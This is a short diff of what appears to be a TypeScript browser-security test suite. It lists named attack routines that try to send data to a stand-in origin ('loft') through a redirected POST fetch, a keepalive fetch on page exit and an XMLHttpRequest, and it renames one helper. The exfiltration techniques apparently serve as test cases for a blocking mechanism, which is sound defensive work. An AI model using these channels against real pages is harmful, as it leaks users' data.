@@ -94,7 +94,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   'fetch redirected with status 307': (page, { loft }) =>
     page.evaluate(inPage.sendFetch, { url: `/away?to=${loft}${LOFTS}`, method: 'POST', mode: 'no-cors' as const, body: EVIL_LOFT }),
   'fetch with keepalive while the page is left': async (page, { loft }) => {
-    await page.evaluate(inPage.askAtLeaving, loft + LOFTS)
+    await page.evaluate(inPage.fetchOnPagehide, loft + LOFTS)
     await page.goto('about:blank')
   },
   'XMLHttpRequest to read': (page, { loft }) => page.evaluate(inPage.sendXhr, { method: 'GET', url: `${loft}/api/settings` }),
